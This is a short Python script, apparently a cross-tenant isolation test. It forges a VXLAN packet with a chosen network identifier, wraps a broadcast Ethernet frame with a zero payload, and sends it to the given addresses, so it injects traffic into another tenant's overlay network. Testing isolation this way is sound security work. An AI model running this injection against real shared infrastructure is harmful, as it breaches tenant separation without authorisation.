"""A frame for a tenant, in a tunnel that a container makes itself: one to each address.

intrude.py PORT VNI FROM ADDR[%DEVICE]...
"""

import socket
import sys

port, vni = int(sys.argv[1]), int(sys.argv[2])
frame = b"\xff" * 6 + b"\x02\x66\0\0\0\1" + b"\x88\xb5" + bytes(46)
sent = b"\x08\0\0\0" + (vni << 8).to_bytes(4, "big") + frame
for to in sys.argv[4:]:
    info = socket.getaddrinfo(to, port, type=socket.SOCK_DGRAM)[0]
    s = socket.socket(info[0], socket.SOCK_DGRAM)
    s.bind((sys.argv[3], 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(sent, info[4])
